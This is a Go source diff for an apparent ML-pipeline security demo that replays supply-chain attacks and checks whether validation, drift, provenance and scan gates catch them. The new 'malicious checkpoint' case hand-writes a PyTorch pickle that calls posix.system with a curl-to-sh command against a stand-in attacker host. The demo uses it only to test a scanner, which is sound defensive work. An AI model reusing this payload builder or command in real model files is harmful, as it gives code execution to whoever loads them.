@@ -1,12 +1,17 @@
 package main
 
 import (
+	"archive/zip"
+	"bytes"
 	"context"
+	"encoding/binary"
 	"fmt"
 	"math/rand/v2"
 	"os"
 	"path/filepath"
 	"strings"
+
+	"github.com/mlsec-dev/mlsec/provenance"
 )
 
 // An attack replays one way a model pipeline gets subverted, and names the
@@ -25,7 +30,8 @@ func (p *pipeline) attackList() []attack {
 		{"poisoned-batch", "poisoned training batch", checkValidation, p.poisonedBatch},
 		{"drifted-batch", "drifted serving batch", checkDrift, p.driftedBatch},
 		{"unapproved-dataset", "unapproved dataset", checkProvenance, p.unapprovedDataset},
-		{"planted-credential", "planted credential", checkSecrets, p.plantedCredential},
+		{"planted-credential", "planted credential", checkScan, p.plantedCredential},
+		{"malicious-checkpoint", "malicious checkpoint", checkScan, p.pickleCheckpoint},
 	}
 }
 
@@ -93,11 +99,13 @@ func (p *pipeline) tamperedModel(ctx context.Context, a attack, l *stepLog) (dec
 		return decision{}, err
 	}
 	l.note("model.json edited after signing: bias lowered by 3, approvals on today's batch %.0f%% -> %.0f%%", 100*before, 100*after)
-	return p.gate(ctx, &c, p.servingBatch, a.slug), nil
+	return p.gate(ctx, gateRequest{c: &c, batch: p.servingBatch, batchName: a.slug})
 }
 
 // poisonedBatch: rows with flipped labels, each added twice, are slipped
-// into a refresh of the training data; the model is trained on it anyway.
+// into a refresh of the training data. The data owner approves the refresh
+// by its version digest, as a routine sign-off: approval names the bytes,
+// only the quality gate looks inside them. The model is trained on it.
 func (p *pipeline) poisonedBatch(ctx context.Context, a attack, l *stepLog) (decision, error) {
 	clean := generateLoans(p.cfg.seed, p.cfg.rows, 1, normalPopulation)
 	bad := poison(clean, p.cfg.seed+7, 0.04)
@@ -117,12 +125,12 @@ func (p *pipeline) poisonedBatch(ctx context.Context, a attack, l *stepLog) (dec
 			l.note("  %s", f)
 		}
 	}
-	l.note("trained, recorded and signed anyway, as a pipeline that skips its own gate would")
-	c, err := p.produce(ctx, a, ds, nil)
+	l.note("the data owner approved version %s by digest; trained, recorded and signed anyway, as a pipeline that skips its own gate would", short(ds.version))
+	c, err := p.produce(ctx, a, ds, nil, nil)
 	if err != nil {
 		return decision{}, err
 	}
-	return p.gate(ctx, c, p.servingBatch, a.slug), nil
+	return p.gate(ctx, gateRequest{c: c, batch: p.servingBatch, batchName: a.slug, approve: []provenance.DigestSet{ds.version}})
 }
 
 // driftedBatch: the economy turns and the batch the model is about to
@@ -134,7 +142,7 @@ func (p *pipeline) driftedBatch(ctx context.Context, a attack, l *stepLog) (deci
 	}
 	l.note("serving batch %s: incomes x%.2f, credit scores %+.0f, small-business loans x%.0f",
 		p.rel(batch), downturn.IncomeFactor, downturn.CreditShift, downturn.SmallBusinessMul)
-	return p.gate(ctx, p.clean, batch, a.slug), nil
+	return p.gate(ctx, gateRequest{c: p.clean, batch: batch, batchName: a.slug})
 }
 
 // unapprovedDataset: a valid, honestly recorded dataset that the data
@@ -153,12 +161,12 @@ func (p *pipeline) unapprovedDataset(ctx context.Context, a attack, l *stepLog) 
 	} else {
 		l.note("validation suite FAILED")
 	}
-	c, err := p.produce(ctx, a, ds, nil)
+	c, err := p.produce(ctx, a, ds, nil, nil)
 	if err != nil {
 		return decision{}, err
 	}
 	l.note("trained on it, provenance recorded and model signed by the real pipeline")
-	return p.gate(ctx, c, p.servingBatch, a.slug), nil
+	return p.gate(ctx, gateRequest{c: c, batch: p.servingBatch, batchName: a.slug})
 }
 
 // plantedCredential: an engineer pastes cloud and database credentials
@@ -166,20 +174,78 @@ func (p *pipeline) unapprovedDataset(ctx context.Context, a attack, l *stepLog) 
 // records and signs it as usual, so signature and provenance are valid.
 func (p *pipeline) plantedCredential(ctx context.Context, a attack, l *stepLog) (decision, error) {
 	env := fakeCredentials(p.cfg.seed)
-	c, err := p.produce(ctx, a, p.approved, env)
+	c, err := p.produce(ctx, a, p.approved, env, nil)
 	if err != nil {
 		return decision{}, err
 	}
 	l.note("config.json carries serving_env with an AWS key pair and a database URL with a password; model trained, recorded and signed as usual")
-	return p.gate(ctx, c, p.servingBatch, a.slug), nil
+	return p.gate(ctx, gateRequest{c: c, batch: p.servingBatch, batchName: a.slug})
 }
 
-// produce runs the pipeline's training steps for an attack: train, record
-// the training provenance, sign the model.
-func (p *pipeline) produce(ctx context.Context, a attack, ds *dataset, env map[string]string) (*candidate, error) {
+// pickleCheckpoint: the team fine-tunes from a base checkpoint pulled from
+// a model hub, and ships the result in PyTorch's format for the serving
+// runtime. The base was poisoned upstream: its pickle calls os.system when
+// torch.load opens it, and the payload rides along into the fine-tuned
+// checkpoint. The pipeline trains, records and signs it as usual, so
+// signature and provenance are valid; only a scan that reads the pickle
+// without running it sees what loading it would do.
+func (p *pipeline) pickleCheckpoint(ctx context.Context, a attack, l *stepLog) (decision, error) {
+	ckpt, err := poisonedCheckpoint()
+	if err != nil {
+		return decision{}, err
+	}
+	c, err := p.produce(ctx, a, p.approved, nil, map[string][]byte{"checkpoint.pt": ckpt})
+	if err != nil {
+		return decision{}, err
+	}
+	l.note("checkpoint.pt (PyTorch zip, %d bytes) carries a pickle whose REDUCE calls posix.system; fine-tuned, recorded and signed as usual; nothing ever loads it", len(ckpt))
+	return p.gate(ctx, gateRequest{c: c, batch: p.servingBatch, batchName: a.slug})
+}
+
+// poisonedCheckpoint writes a PyTorch zip checkpoint (archive/data.pkl,
+// archive/version) whose pickle would run a shell command on load. The
+// bytes are written by hand; no Python is involved and nothing runs them.
+func poisonedCheckpoint() ([]byte, error) {
+	cmd := "curl -s https://attacker.example/x | sh"
+	var pkl bytes.Buffer
+	pkl.WriteString("\x80\x02")         // PROTO 2
+	pkl.WriteString("cposix\nsystem\n") // GLOBAL posix.system
+	pkl.WriteByte('X')                  // BINUNICODE
+	_ = binary.Write(&pkl, binary.LittleEndian, uint32(len(cmd)))
+	pkl.WriteString(cmd)
+	pkl.WriteString("\x85R.") // TUPLE1, REDUCE, STOP
+	var out bytes.Buffer
+	zw := zip.NewWriter(&out)
+	for _, f := range []struct {
+		name string
+		data []byte
+	}{{"archive/data.pkl", pkl.Bytes()}, {"archive/version", []byte("3\n")}} {
+		w, err := zw.CreateHeader(&zip.FileHeader{Name: f.name, Method: zip.Store})
+		if err != nil {
+			return nil, err
+		}
+		if _, err := w.Write(f.data); err != nil {
+			return nil, err
+		}
+	}
+	if err := zw.Close(); err != nil {
+		return nil, err
+	}
+	return out.Bytes(), nil
+}
+
+// produce runs the pipeline's training steps for an attack: train, add any
+// extra files to the model directory, record the training provenance, sign
+// the model.
+func (p *pipeline) produce(ctx context.Context, a attack, ds *dataset, env map[string]string, extra map[string][]byte) (*candidate, error) {
 	c, _, err := p.trainModel(ctx, p.clean.name, ds, p.path("attacks", a.slug, p.clean.name), env)
 	if err != nil {
 		return nil, err
+	}
+	for name, b := range extra {
+		if err := writeFile(filepath.Join(c.dir, name), b); err != nil {
+			return nil, err
+		}
 	}
 	c.id = a.slug
 	if _, err := p.recordTraining(ctx, c); err != nil {
